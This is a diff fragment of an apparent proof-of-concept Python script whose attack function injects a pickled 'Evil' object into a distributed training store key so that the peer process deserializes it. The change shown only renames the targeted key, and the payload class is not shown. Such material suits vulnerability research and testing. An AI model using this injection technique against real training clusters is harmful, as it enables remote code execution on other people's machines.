@@ -33,14 +33,14 @@ def attack(mode: str, port: int) -> None:
         "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
     )
     if mode == "store":
-        key = f"{PREFIX}/devices/answers/1"
+        key = f"{PREFIX}/devices/answer"
         # Wait for the answer of rank 0.
         store.get(key)
         store.set(key, pickle.dumps(Evil(), protocol=0).decode("ascii"))
         print("sent", flush=True)
         # The connection stays open, which exposes the user.
         threading.Event().wait()
-    store.get(f"{PREFIX}/devices/answers/1")
+    store.get(f"{PREFIX}/devices/answer")
     print("sent", flush=True)
     dist.init_process_group("gloo", store=dist.PrefixStore(PREFIX, store), rank=1, world_size=2)
     while True:
